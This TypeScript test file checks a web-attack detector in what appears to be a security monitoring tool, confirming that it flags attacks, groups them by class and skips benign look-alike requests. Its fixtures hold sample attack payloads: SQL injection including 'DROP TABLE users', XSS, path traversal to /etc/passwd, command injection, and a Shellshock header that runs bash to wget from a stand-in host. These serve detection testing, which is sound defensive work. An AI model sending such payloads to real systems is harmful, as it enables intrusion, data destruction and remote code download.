import { describe, expect, it } from 'vitest';
import { eventFactory, iso, NOW, only } from '../../../tests/fixtures/detection-events.ts';
import { mergeSettings, DEFAULT_DETECTION_SETTINGS as S } from '../settings.ts';
import type { DetectionEvent } from '../types.ts';
import { webAttack } from './web-attack.ts';

const f = eventFactory();
const run = (events: DetectionEvent[], settings = S) => webAttack.evaluate(only(events, webAttack.prefilter), settings, NOW);

describe('web_attack', () => {
  it('fires on one SQL injection request, with class in the fingerprint and the payload as evidence', () => {
    const [d, ...rest] = run([f.http(0, "/item.php?id=1' OR '1'='1")]);
    expect(rest).toEqual([]);
    expect(d).toMatchObject({
      detector: 'web_attack',
      category: 'web_attack',
      severity: 'high',
      title: 'SQL injection attempts from 203.0.113.50',
      mitre: ['T1190'],
      fingerprintKey: 'web_attack|sql_injection|203.0.113.50',
    });
    expect(d?.evidence[2]?.observed).toContain("id=1' OR '1'='1");
  });

  it('does not fire on benign look-alike requests', () => {
    const benign = ["/books?author=O'Reilly", '/search?q=union+station+selection', '/recipes?q=onion', '/compare/v1.0...v2.0', '/shop?cat=1&id=2'];
    expect(run(benign.map((uri, i) => f.http(i, uri)))).toEqual([]);
  });

  it('gives one detection per attack class and groups requests of a class', () => {
    const events = [
      f.http(0, '/a?id=1 UNION SELECT 1,2'),
      f.http(5, "/a?id=1' or 1=1--"),
      f.http(9, '/s?q=<script>alert(1)</script>'),
      f.http(12, '/f?p=../../../etc/passwd'),
      f.http(20, '/p?h=1.1.1.1;id'),
    ];
    const found = run(events);
    expect(found.map((d) => [d.fingerprintKey, d.evidence[0]?.observed, d.severity])).toEqual([
      ['web_attack|sql_injection|203.0.113.50', 2, 'high'],
      ['web_attack|xss|203.0.113.50', 1, 'medium'],
      ['web_attack|path_traversal|203.0.113.50', 1, 'medium'],
      ['web_attack|command_injection|203.0.113.50', 1, 'high'],
    ]);
    expect(found[3]?.mitre).toEqual(['T1190', 'T1059']);
  });

  it('scans attacker-controlled headers (Shellshock in the User-Agent)', () => {
    const [d] = run([f.http(0, '/cgi-bin/status', '203.0.113.50', { user_agent: '() { :; }; /bin/bash -c "wget http://x/a"' })]);
    expect(d?.fingerprintKey).toBe('web_attack|command_injection|203.0.113.50');
  });

  it('reads web honeypot records (path attribute) and Suricata http, and counts a request logged twice once', () => {
    const honeypot = f.custom({
      eventid: 'webhoneypot.request',
      src_ip: '192.168.1.100',
      dst_port: 80,
      method: 'GET',
      path: "/search.php?q='; DROP TABLE users; --",
      timestamp: iso(0),
    });
    const suricata = (sec: number) =>
      f.suricata({
        event_type: 'http',
        timestamp: iso(sec),
        src_ip: '192.168.1.100',
        src_port: 41000,
        dest_ip: '192.0.2.80',
        dest_port: 80,
        proto: 'TCP',
        http: { hostname: 'shop.example', url: "/search.php?q='; DROP TABLE users; --", http_method: 'GET', status: 404 },
      });
    const zeekTwin = f.http(0, "/search.php?q='; DROP TABLE users; --", '192.168.1.100');
    const [d] = run([honeypot, suricata(0), zeekTwin]);
    expect(d?.eventIds).toHaveLength(3);
    expect(d?.evidence[0]?.observed).toBe(2); // the honeypot's path and the sensors' full URL differ
    expect(run([suricata(0), f.http(0, "/search.php?q='; DROP TABLE users; --", '192.168.1.100')])[0]?.evidence[0]?.observed).toBe(1);
  });

  it('ignores Cowrie download URLs and follows minRequests and the gap', () => {
    const cowrie = f.cowrie('cowrie.session.file_download', 0, { url: 'http://203.0.113.5/a;id', shasum: 'a'.repeat(64) });
    expect(only([cowrie], webAttack.prefilter)).toEqual([]);
    const three = mergeSettings({ webAttack: { minRequests: 3 } });
    const two = [f.http(0, '/a?id=1 UNION SELECT 1'), f.http(1, '/a?id=2 UNION SELECT 1')];
    expect(run(two, three)).toEqual([]);
    expect(run([...two, f.http(2, '/a?id=3 UNION SELECT 1')], three)).toHaveLength(1);
    expect(run([f.http(0, '/a?id=1 UNION SELECT 1'), f.http(7200, '/a?id=1 UNION SELECT 1')])).toHaveLength(2);
  });
});
